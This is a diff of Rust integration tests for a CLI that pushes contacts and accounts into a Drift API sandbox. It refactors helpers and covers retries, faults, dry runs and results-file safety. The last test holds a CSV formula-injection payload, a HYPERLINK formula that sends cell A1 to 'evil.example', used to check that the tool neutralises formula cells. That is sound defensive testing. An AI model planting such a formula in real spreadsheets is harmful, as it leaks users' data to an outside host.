@@ -2,255 +2,11 @@
 //! a temp data dir with a credential, and the sandbox's own view (`/__sandbox/*` and lookups
 //! with a second token) to check what landed in Drift.
 
-use crate::common::bin;
-use drift_client::{Client, Contact, SecretString};
-use drift_sandbox::{FaultSpec, SandboxConfig, SandboxHandle, TokenSpec, ALL_SCOPES};
-use serde_json::{json, Map, Value};
+use crate::util::{attr, outcomes, Cli, Sandbox, OBSERVER};
+use drift_sandbox::FaultSpec;
+use serde_json::{json, Value};
 use std::collections::BTreeMap;
-use std::path::PathBuf;
-use std::process::{Command, Stdio};
-
-/// Token the pushes use (may be revoked by a fault).
-pub(crate) const TOKEN: &str = "tok_PUSH_5e4d3c2b1a09f8e7d6c5";
-/// Second full-scope token the tests use to look at the sandbox's data.
-const OBSERVER: &str = "tok_OBSERVER_0a1b2c3d4e5f6a7b";
-
-pub(crate) struct Sandbox {
-    handle: Option<SandboxHandle>,
-    pub(crate) runtime: tokio::runtime::Runtime,
-    observer: Client,
-}
-
-impl Sandbox {
-    pub(crate) fn start(faults: Vec<FaultSpec>) -> Sandbox {
-        Sandbox::start_with(faults, 0)
-    }
-
-    /// A sandbox that answers every request after `latency_ms`.
-    pub(crate) fn start_with(faults: Vec<FaultSpec>, latency_ms: u64) -> Sandbox {
-        let runtime = tokio::runtime::Builder::new_multi_thread()
-            .worker_threads(1)
-            .enable_all()
-            .build()
-            .unwrap();
-        let config = SandboxConfig {
-            port: 0,
-            conversations: 5,
-            accounts: 3,
-            rate_limit_per_min: 0,
-            token: TOKEN.to_string(),
-            tokens: vec![TokenSpec {
-                token: OBSERVER.to_string(),
-                scopes: ALL_SCOPES.iter().map(|s| s.to_string()).collect(),
-                expires_at: None,
-            }],
-            faults,
-            latency_ms,
-            ..SandboxConfig::default()
-        };
-        let handle = runtime.block_on(drift_sandbox::start(config)).unwrap();
-        let observer = {
-            let _guard = runtime.enter();
-            Client::builder(&handle.base_url(), SecretString::from(OBSERVER))
-                .rate_limit_per_min(100_000)
-                .build()
-                .unwrap()
-        };
-        Sandbox {
-            handle: Some(handle),
-            runtime,
-            observer,
-        }
-    }
-
-    pub(crate) fn url(&self) -> String {
-        self.handle.as_ref().unwrap().base_url()
-    }
-
-    fn admin(&self, path: &str) -> Value {
-        let url = format!("{}/__sandbox/{path}", self.url());
-        self.runtime
-            .block_on(async { reqwest::get(url).await.unwrap().json().await.unwrap() })
-    }
-
-    fn contact_count(&self) -> u64 {
-        self.admin("counts")["contacts"].as_u64().unwrap()
-    }
-
-    /// Requests per route so far.
-    fn route_count(&self, route: &str) -> u64 {
-        self.admin("stats")["by_route"][route].as_u64().unwrap_or(0)
-    }
-
-    pub(crate) fn by_email(&self, email: &str) -> Vec<Contact> {
-        let found = self
-            .runtime
-            .block_on(self.observer.contacts_by_email(email))
-            .unwrap();
-        assert!(found.unfit.is_empty(), "{:?}", found.unfit);
-        found.items
-    }
-
-    /// Creates a contact with these attributes; returns its id.
-    fn create(&self, attrs: Value) -> i64 {
-        let attrs: Map<String, Value> = serde_json::from_value(attrs).unwrap();
-        self.runtime
-            .block_on(self.observer.create_contact(&attrs))
-            .unwrap()
-            .id
-    }
-}
-
-impl Drop for Sandbox {
-    fn drop(&mut self) {
-        if let Some(h) = self.handle.take() {
-            self.runtime.block_on(h.shutdown());
-        }
-    }
-}
-
-/// A temp dir (data dir + input and results files) with credential `sb` for the sandbox.
-pub(crate) struct Cli {
-    dir: tempfile::TempDir,
-}
-
-pub(crate) struct Run {
-    pub(crate) code: i32,
-    pub(crate) stdout: String,
-    pub(crate) stderr: String,
-}
-
-impl Cli {
-    pub(crate) fn new(sandbox: &Sandbox) -> Cli {
-        let cli = Cli {
-            dir: tempfile::tempdir().unwrap(),
-        };
-        let store = store::Store::open(&cli.data_dir()).unwrap();
-        store
-            .add_credential(&store::NewCredential {
-                name: "sb".into(),
-                description: None,
-                base_url: Some(sandbox.url()),
-                api_key: SecretString::from(TOKEN),
-                rate_limit_per_min: 60_000,
-            })
-            .unwrap();
-        cli
-    }
-
-    pub(crate) fn data_dir(&self) -> PathBuf {
-        self.dir.path().join("data")
-    }
-
-    pub(crate) fn path(&self, name: &str) -> PathBuf {
-        self.dir.path().join(name)
-    }
-
-    pub(crate) fn write(&self, name: &str, text: &str) -> String {
-        let p = self.path(name);
-        std::fs::write(&p, text).unwrap();
-        p.display().to_string()
-    }
-
-    pub(crate) fn run(&self, args: &[&str]) -> Run {
-        let mut cmd = Command::new(bin());
-        cmd.arg("--data-dir")
-            .arg(self.data_dir())
-            .args(args)
-            .current_dir(self.dir.path())
-            .env_remove("DRIFTBRIDGE_MASTER_KEY")
-            .env_remove("DRIFTBRIDGE_DATA_DIR")
-            .stdin(Stdio::null());
-        // A push that reads its own results file (a regression of the `--results` = `--from`
-        // guard) would write until the disk is full: cap every file it writes at 512 MiB.
-        // SAFETY: setrlimit is async-signal-safe and reads a valid rlimit.
-        unsafe {
-            std::os::unix::process::CommandExt::pre_exec(&mut cmd, || {
-                let cap = libc::rlimit {
-                    rlim_cur: 512 << 20,
-                    rlim_max: 512 << 20,
-                };
-                libc::setrlimit(libc::RLIMIT_FSIZE, &cap);
-                Ok(())
-            });
-        }
-        let out = cmd.output().unwrap();
-        let run = Run {
-            code: out.status.code().unwrap_or(-1),
-            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
-            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
-        };
-        for text in [&run.stdout, &run.stderr] {
-            assert!(!text.contains(TOKEN), "the token leaked: {text}");
-            assert!(!text.contains("panicked"), "{text}");
-        }
-        run
-    }
-
-    /// `push OBJECT --credential sb --from FROM --results RESULTS ARGS...`
-    pub(crate) fn push(&self, object: &str, from: &str, results: &str, extra: &[&str]) -> Run {
-        let results = self.path(results).display().to_string();
-        let mut args = vec![
-            "push",
-            object,
-            "--credential",
-            "sb",
-            "--from",
-            from,
-            "--results",
-            &results,
-        ];
-        args.extend_from_slice(extra);
-        self.run(&args)
-    }
-
-    /// `push contacts --credential sb --from FROM --results RESULTS` with `RESULTS` as given
-    /// (not under the temp dir).
-    pub(crate) fn push_to(&self, results: &str, from: &str) -> Run {
-        self.run(&[
-            "push",
-            "contacts",
-            "--credential",
-            "sb",
-            "--from",
-            from,
-            "--results",
-            results,
-        ])
-    }
-
-    /// The results file as `row -> (outcome, drift_id, reason)`; asserts one line per row.
-    pub(crate) fn results(&self, name: &str) -> BTreeMap<u64, (String, String, String)> {
-        let mut reader = csv::Reader::from_path(self.path(name)).unwrap();
-        let headers = reader.headers().unwrap().clone();
-        assert_eq!(
-            headers.iter().collect::<Vec<_>>(),
-            ["row", "key", "outcome", "drift_id", "reason", "input"]
-        );
-        let mut rows = BTreeMap::new();
-        for rec in reader.records() {
-            let rec = rec.unwrap();
-            let row: u64 = rec[0].parse().unwrap();
-            let line = (rec[2].to_string(), rec[3].to_string(), rec[4].to_string());
-            assert!(
-                rows.insert(row, line).is_none(),
-                "row {row} has two outcomes"
-            );
-        }
-        rows
-    }
-}
-
-pub(crate) fn outcomes(results: &BTreeMap<u64, (String, String, String)>) -> Vec<(u64, &str)> {
-    results
-        .iter()
-        .map(|(r, (o, _, _))| (*r, o.as_str()))
-        .collect()
-}
-
-pub(crate) fn attr<'a>(c: &'a Contact, key: &str) -> Option<&'a Value> {
-    c.attributes.as_ref().and_then(|a| a.get(key))
-}
+use std::process::Command;
 
 const MIXED: &str = "email,name,tier\n\
 new@example.com,New Person,gold\n\
@@ -274,9 +30,9 @@ fn seed_mixed(sandbox: &Sandbox) -> (i64, i64, i64) {
 
 #[test]
 fn mixed_csv_gets_one_expected_outcome_per_row_and_the_sandbox_matches() {
-    let sandbox = Sandbox::start(vec![]);
+    let sandbox = Sandbox::start();
     let (ada, t1, t2) = seed_mixed(&sandbox);
-    let cli = Cli::new(&sandbox);
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write("contacts.csv", MIXED);
     let before = sandbox.contact_count();
 
@@ -382,8 +138,8 @@ fn a_503_on_the_create_is_looked_up_then_retried_and_creates_exactly_one_contact
         probability: None,
         delay_ms: None,
     };
-    let sandbox = Sandbox::start(vec![fault]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::small().faults(vec![fault]).start();
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write("one.csv", "email,name\nretry@example.com,Retry Me\n");
     let run = cli.push("contacts", &from, "r.csv", &[]);
     assert_eq!(run.code, 0, "{}", run.stderr);
@@ -407,8 +163,8 @@ fn a_create_whose_answer_is_lost_is_found_by_lookup_and_not_sent_again() {
         probability: None,
         delay_ms: None,
     };
-    let sandbox = Sandbox::start(vec![fault]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::small().faults(vec![fault]).start();
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write("one.csv", "email,name\nlost@example.com,Lost Answer\n");
     let run = cli.push("contacts", &from, "r.csv", &[]);
     assert_eq!(run.code, 0, "{}", run.stderr);
@@ -430,8 +186,8 @@ fn a_401_mid_run_exits_3_and_the_results_list_every_processed_row() {
         probability: None,
         delay_ms: None,
     };
-    let sandbox = Sandbox::start(vec![fault]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::small().faults(vec![fault]).start();
+    let cli = Cli::with_sb(&sandbox);
     let mut csv = String::from("email,name\n");
     for i in 1..=40 {
         csv.push_str(&format!("user{i}@example.com,User {i}\n"));
@@ -472,9 +228,9 @@ fn a_401_mid_run_exits_3_and_the_results_list_every_processed_row() {
 
 #[test]
 fn dry_run_looks_up_and_prints_but_makes_no_write_request() {
-    let sandbox = Sandbox::start(vec![]);
+    let sandbox = Sandbox::start();
     let (ada, _, _) = seed_mixed(&sandbox);
-    let cli = Cli::new(&sandbox);
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write("contacts.csv", MIXED);
     let before = sandbox.contact_count();
     let writes = |s: &Sandbox| {
@@ -521,8 +277,8 @@ fn dry_run_looks_up_and_prints_but_makes_no_write_request() {
 
 #[test]
 fn accounts_upsert_by_domain_and_timeline_events_are_not_sent_twice() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let accounts = cli.write(
         "accounts.jsonl",
         "{\"domain\":\"acme.example\",\"name\":\"Acme\",\"ownerId\":1}\n\
@@ -544,7 +300,7 @@ fn accounts_upsert_by_domain_and_timeline_events_are_not_sent_twice() {
     assert_eq!(r2[&1].1, r[&1].1, "the same account");
     let acct = sandbox
         .runtime
-        .block_on(sandbox.observer.account(&r[&1].1))
+        .block_on(sandbox.observer().account(&r[&1].1))
         .unwrap();
     assert_eq!(acct.name.as_deref(), Some("Acme Corp"));
     assert_eq!(
@@ -570,8 +326,8 @@ fn accounts_upsert_by_domain_and_timeline_events_are_not_sent_twice() {
 
 #[test]
 fn a_saved_push_destination_runs_again_by_name() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write("c.csv", "mail,tier\nsaved@example.com,gold\n");
     let run = cli.push(
         "contacts",
@@ -599,8 +355,8 @@ fn a_saved_push_destination_runs_again_by_name() {
 
 #[test]
 fn bad_flags_and_inputs_exit_2_naming_the_fix() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write("c.csv", "email\na@example.com\n");
     let cases: [(&[&str], &str); 4] = [
         (
@@ -629,8 +385,8 @@ fn postgres_url() -> String {
 
 #[test]
 fn contacts_stream_from_a_postgres_query() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let table = format!("push_src_{}", std::process::id());
     let exec = |sql: String| {
         sandbox.runtime.block_on(async {
@@ -718,8 +474,8 @@ fn contacts_stream_from_a_postgres_query() {
 #[test]
 fn a_reader_that_stops_early_neither_crashes_a_push_nor_cuts_its_results_file() {
     use std::io::BufRead;
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let mut csv = String::from("email,name\n");
     for i in 0..400 {
         csv.push_str(&format!("reader{i}@example.com,Reader {i}\n"));
@@ -727,16 +483,18 @@ fn a_reader_that_stops_early_neither_crashes_a_push_nor_cuts_its_results_file() 
     let from = cli.write("many.csv", &csv);
     let results = cli.path("dr.csv").display().to_string();
     // `driftbridge push ... --dry-run | head -1`
-    let mut child = Command::new(bin())
-        .arg("--data-dir")
-        .arg(cli.data_dir())
-        .args(["push", "contacts", "--credential", "sb", "--from", &from])
-        .args(["--results", &results, "--dry-run"])
-        .env_remove("DRIFTBRIDGE_MASTER_KEY")
-        .env_remove("DRIFTBRIDGE_DATA_DIR")
-        .stdin(Stdio::null())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
+    let mut child = cli
+        .command(&[
+            "push",
+            "contacts",
+            "--credential",
+            "sb",
+            "--from",
+            &from,
+            "--results",
+            &results,
+            "--dry-run",
+        ])
         .spawn()
         .unwrap();
     let mut first = String::new();
@@ -776,8 +534,8 @@ fn inputs(cli: &Cli, name: &str) -> BTreeMap<u64, Value> {
 
 #[test]
 fn unreadable_rows_keep_their_text_in_the_results_and_stay_in_the_retry_loop() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let mut bytes = b"email,name,note,score\n".to_vec();
     bytes.extend_from_slice(b"fine@example.com,Fine,,1\n");
     bytes.extend_from_slice(b"carol@example.com,Carol,,7,extra\n");
@@ -839,8 +597,8 @@ fn unreadable_rows_keep_their_text_in_the_results_and_stay_in_the_retry_loop() {
 
 #[test]
 fn account_domains_that_are_not_host_names_are_rejected_per_row() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write(
         "acc.csv",
         "domain,name,ownerId\n\
@@ -885,7 +643,7 @@ fn account_domains_that_are_not_host_names_are_rejected_per_row() {
     let domain_of = |id: &str| {
         sandbox
             .runtime
-            .block_on(sandbox.observer.account(id))
+            .block_on(sandbox.observer().account(id))
             .unwrap()
             .domain
     };
@@ -899,9 +657,9 @@ fn account_domains_that_are_not_host_names_are_rejected_per_row() {
 
 #[test]
 fn a_dry_run_plans_later_rows_with_the_effects_of_earlier_rows_like_the_real_run() {
-    let sandbox = Sandbox::start(vec![]);
+    let sandbox = Sandbox::start();
     sandbox.create(json!({"email": "ada@example.com", "name": "Ada", "plan": "free"}));
-    let cli = Cli::new(&sandbox);
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write(
         "dups.csv",
         "email,name,plan\n\
@@ -961,8 +719,8 @@ fn a_dry_run_plans_later_rows_with_the_effects_of_earlier_rows_like_the_real_run
 /// writer appends, rejecting each and appending another, until the disk is full.
 #[test]
 fn a_results_file_that_is_an_input_is_refused_and_the_input_is_left_intact() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let text = "email,name\nloop@example.com,Loop\nnot-an-email,Bad\n";
     let from = cli.write("loop.csv", text);
     std::os::unix::fs::symlink(cli.path("loop.csv"), cli.path("link.csv")).unwrap();
@@ -1038,8 +796,8 @@ fn a_results_file_that_is_an_input_is_refused_and_the_input_is_left_intact() {
 
 #[test]
 fn a_jsonl_file_starting_with_a_byte_order_mark_is_read_from_its_first_row() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let mut bytes = b"\xEF\xBB\xBF".to_vec();
     bytes.extend_from_slice(b"{\"email\": \"bom1@example.com\", \"name\": \"Bom One\"}\r\n");
     bytes.extend_from_slice(b"{\"email\": \"bom2@example.com\"}\r\n");
@@ -1057,8 +815,8 @@ fn a_jsonl_file_starting_with_a_byte_order_mark_is_read_from_its_first_row() {
 
 #[test]
 fn a_quote_that_is_not_doubled_inside_a_quoted_csv_value_rejects_the_row() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write(
         "q.csv",
         "email,name,company\n\
@@ -1111,8 +869,8 @@ fn a_quote_that_is_not_doubled_inside_a_quoted_csv_value_rejects_the_row() {
 
 #[test]
 fn postgres_input_errors_show_the_servers_message_and_no_password() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let base = postgres_url();
     let with_password = {
         let mut u = url::Url::parse(&base).unwrap();
@@ -1142,8 +900,8 @@ fn postgres_input_errors_show_the_servers_message_and_no_password() {
 
 #[test]
 fn an_empty_input_warns_and_a_csv_without_a_header_is_refused() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let empty = cli.write("empty.csv", "");
     let run = cli.push("contacts", &empty, "r.csv", &["--dry-run"]);
     assert_eq!(run.code, 2, "{}", run.stderr);
@@ -1222,17 +980,8 @@ fn check_stopped_results(
 }
 
 /// Adds credential `observer` (the sandbox's second token) to `cli`'s data dir.
-fn add_observer_credential(cli: &Cli, sandbox: &Sandbox) {
-    store::Store::open(&cli.data_dir())
-        .unwrap()
-        .add_credential(&store::NewCredential {
-            name: "observer".into(),
-            description: None,
-            base_url: Some(sandbox.url()),
-            api_key: SecretString::from(OBSERVER),
-            rate_limit_per_min: 60_000,
-        })
-        .unwrap();
+fn add_observer_credential(cli: &Cli, _sandbox: &Sandbox) {
+    cli.add_credential_at("observer", OBSERVER, 60_000);
 }
 
 #[test]
@@ -1246,8 +995,8 @@ fn a_revoked_token_stop_gives_every_read_row_one_outcome_and_re_feeding_finishes
         probability: None,
         delay_ms: None,
     };
-    let sandbox = Sandbox::start(vec![fault]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::small().faults(vec![fault]).start();
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write("in.csv", &contacts_csv("stop", 100));
     let run = cli.push("contacts", &from, "r.csv", &["--json"]);
     assert_eq!(run.code, 3, "{}\n{}", run.stdout, run.stderr);
@@ -1319,15 +1068,14 @@ fn a_revoked_token_stop_gives_every_read_row_one_outcome_and_re_feeding_finishes
 /// Sends `signal` (`INT`, `TERM`) to a push of 100 rows against a slow sandbox once a few
 /// rows have an outcome, and checks how it stopped.
 fn stop_a_push_with(signal: &str) {
-    let sandbox = Sandbox::start_with(vec![], 150);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::small().latency_ms(150).start();
+    let cli = Cli::with_sb(&sandbox);
     let prefix = format!("sig{}", signal.to_lowercase());
     let from = cli.write("in.csv", &contacts_csv(&prefix, 100));
     let results = cli.path("r.csv");
-    let child = Command::new(bin())
-        .arg("--data-dir")
-        .arg(cli.data_dir())
-        .args([
+    let results_s = results.display().to_string();
+    let child = cli
+        .command(&[
             "push",
             "contacts",
             "--credential",
@@ -1335,14 +1083,10 @@ fn stop_a_push_with(signal: &str) {
             "--from",
             &from,
             "--results",
+            &results_s,
+            "--concurrency",
+            "2",
         ])
-        .arg(&results)
-        .args(["--concurrency", "2"])
-        .env_remove("DRIFTBRIDGE_MASTER_KEY")
-        .env_remove("DRIFTBRIDGE_DATA_DIR")
-        .stdin(Stdio::null())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
         .spawn()
         .unwrap();
     let started = std::time::Instant::now();
@@ -1393,8 +1137,8 @@ fn sigterm_during_a_push_finishes_the_rows_in_flight_and_records_the_run_cancell
 
 #[test]
 fn a_results_file_on_a_full_disk_is_refused_before_anything_is_sent() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let before = sandbox.contact_count();
     let from = cli.write("in.csv", &contacts_csv("full", 50));
     let run = cli.push_to("/dev/full", &from);
@@ -1417,8 +1161,8 @@ fn a_results_file_on_a_full_disk_is_refused_before_anything_is_sent() {
 
 #[test]
 fn a_results_path_that_cannot_hold_results_is_refused_naming_the_fix() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let from = cli.write("in.csv", &contacts_csv("path", 3));
     std::fs::create_dir(cli.path("adir")).unwrap();
     for (results, says) in [
@@ -1444,8 +1188,8 @@ fn a_results_path_that_cannot_hold_results_is_refused_naming_the_fix() {
 #[test]
 fn a_results_file_that_fails_mid_run_stops_the_push_and_records_it_failed() {
     use std::io::Read;
-    let sandbox = Sandbox::start_with(vec![], 20);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::small().latency_ms(20).start();
+    let cli = Cli::with_sb(&sandbox);
     let before = sandbox.contact_count();
     let from = cli.write("in.csv", &contacts_csv("gone", 200));
     // The results "file" is a pipe whose reader goes away after the header and 3 rows:
@@ -1512,24 +1256,28 @@ fn a_results_file_that_fails_mid_run_stops_the_push_and_records_it_failed() {
 fn ctrl_c_on_a_slow_rate_budget_exits_at_once_and_starts_no_new_row() {
     // 30 requests a minute: each row's lookup and create wait seconds for the budget. Before
     // the fix the rows waiting for it were still sent after Ctrl-C (exit after > 30 s).
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let prefix = "slowstop";
     let from = cli.write("in.csv", &contacts_csv(prefix, 40));
     let results = cli.path("r.csv");
+    let results_s = results.display().to_string();
     let contacts_before = sandbox.contact_count();
-    let mut child = Command::new(bin())
-        .arg("--data-dir")
-        .arg(cli.data_dir())
-        .args(["push", "contacts", "--credential", "sb", "--from", &from])
-        .arg("--results")
-        .arg(&results)
-        .args(["--rate-limit-per-min", "30", "--concurrency", "8"])
-        .env_remove("DRIFTBRIDGE_MASTER_KEY")
-        .env_remove("DRIFTBRIDGE_DATA_DIR")
-        .stdin(Stdio::null())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
+    let mut child = cli
+        .command(&[
+            "push",
+            "contacts",
+            "--credential",
+            "sb",
+            "--from",
+            &from,
+            "--results",
+            &results_s,
+            "--rate-limit-per-min",
+            "30",
+            "--concurrency",
+            "8",
+        ])
         .spawn()
         .unwrap();
     let started = std::time::Instant::now();
@@ -1602,27 +1350,13 @@ fn ctrl_c_on_a_slow_rate_budget_exits_at_once_and_starts_no_new_row() {
 }
 
 impl Sandbox {
-    /// Replaces the sandbox's fault plan.
-    fn set_faults(&self, faults: Value) {
-        let url = format!("{}/__sandbox/faults", self.url());
-        self.runtime.block_on(async {
-            let resp = reqwest::Client::new()
-                .post(url)
-                .body(json!({"faults": faults}).to_string())
-                .send()
-                .await
-                .unwrap();
-            assert!(resp.status().is_success(), "{}", resp.status());
-        });
-    }
-
     /// Conversations per contact email (every conversation in the sandbox).
     fn conversations_of(&self, email: &str) -> usize {
         use futures::StreamExt;
         let ids: Vec<i64> = self.by_email(email).iter().map(|c| c.id).collect();
         self.runtime.block_on(async {
             let mut pages = Box::pin(
-                self.observer
+                self.observer()
                     .conversations(drift_client::ListConversations::default()),
             );
             let mut n = 0;
@@ -1641,13 +1375,13 @@ impl Sandbox {
 
 #[test]
 fn a_conversation_whose_connection_dropped_is_not_sent_again_by_a_re_run() {
-    let sandbox = Sandbox::start(vec![]);
+    let sandbox = Sandbox::start();
     sandbox.set_faults(json!([
         {"route": "conversations.create", "kind": "reset", "after_requests": 2, "count": 1},
         {"route": "conversations.create", "kind": "status", "status": 403,
          "after_requests": 6, "count": 1}
     ]));
-    let cli = Cli::new(&sandbox);
+    let cli = Cli::with_sb(&sandbox);
     let mut csv = String::from("email,body\n");
     for i in 1..=30 {
         csv.push_str(&format!("conv{i}@example.com,Hello {i}\n"));
@@ -1716,8 +1450,8 @@ fn a_conversation_whose_connection_dropped_is_not_sent_again_by_a_re_run() {
 /// as read (a re-feed reads that) and a JSONL results file keeps the values exactly.
 #[test]
 fn results_csv_cells_that_start_a_formula_are_neutralised_and_jsonl_is_unchanged() {
-    let sandbox = Sandbox::start(vec![]);
-    let cli = Cli::new(&sandbox);
+    let sandbox = Sandbox::start();
+    let cli = Cli::with_sb(&sandbox);
     let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
     let from = cli.write(
         "formulas.csv",
